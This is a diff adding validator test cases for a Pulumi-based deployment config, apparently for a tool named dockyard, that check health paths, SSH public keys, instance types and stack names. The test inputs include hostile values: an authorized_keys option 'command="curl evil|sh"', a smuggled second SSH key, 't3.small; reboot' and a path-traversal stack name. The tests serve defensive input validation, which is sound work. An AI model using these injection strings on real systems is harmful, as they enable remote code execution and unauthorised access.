@@ -236,6 +236,36 @@ const CASES: Case[] = [
     envText: "",
     problems: [re(`${ENV()}: os: missing`), re(`${ENV()}: engine: missing`), re(`${ENV()}: hostGroups: missing`), re(`${ENV()}: hostGroups: must declare at least one host group`), re(`${SF()}: config\\.dockyard:(hostGroups|images)\\.\\w+: unknown`), re(`${SF()}: config\\.dockyard:(hostGroups|images|replicas)\\.\\w+: unknown`), re(`${SF()}: config\\.dockyard:(hostGroups|images|replicas)\\.\\w+: unknown`)],
   },
+  {
+    name: "a health path with a '#', which HAProxy's configuration reads as a comment",
+    envText: envWith((e) => void (e.services.web.health.path = "/healthz#x")),
+    problems: [re(`${ENV()}: services\\.web\\.health\\.path: must be an HTTP path starting with /; allowed: `)],
+  },
+  {
+    name: "a health path with a quote",
+    envText: envWith((e) => void (e.services.web.health.path = '/a"b')),
+    problems: [re(`${ENV()}: services\\.web\\.health\\.path: must be an HTTP path starting with /; allowed: `)],
+  },
+  {
+    name: "an SSH public key with a second key on a new line",
+    stackText: devWith((c) => void (c["dockyard:sshPublicKey"] = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA alice\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB mallory`)),
+    problems: [re(`${SF()}: config\\.dockyard:sshPublicKey: must be an OpenSSH public key`)],
+  },
+  {
+    name: "an SSH public key with authorized_keys options in front",
+    stackText: devWith((c) => void (c["dockyard:sshPublicKey"] = `command="curl evil|sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA alice`)),
+    problems: [re(`${SF()}: config\\.dockyard:sshPublicKey: must be an OpenSSH public key`)],
+  },
+  {
+    name: "an instance type with a shell command in it",
+    stackText: devWith((c) => void (c["dockyard:hostGroups"].app.instanceType = "t3.small; reboot")),
+    problems: [re(`${SF()}: config\\.dockyard:hostGroups\\.app\\.instanceType: must be an EC2 instance type like t3\\.small`)],
+  },
+  {
+    name: "a replica count for the proxy's name",
+    stackText: insertAfter(DEV_TEXT, "  dockyard:replicas:", "    haproxy: 2"),
+    problems: [re(`${SF()}: config\\.dockyard:replicas\\.haproxy: unknown service; declared services: web`)],
+  },
   // --- stack names
   { name: "a stack name with a path in it", stack: "x/../Pulumi.dev", problems: [re(`stack "x/\\.\\./Pulumi\\.dev": the stack name is not allowed; allowed: `)] },
   { name: "a stack name with an underscore", stack: "dev_alice", problems: [re(`stack "dev_alice": the stack name is not allowed; allowed: `)] },
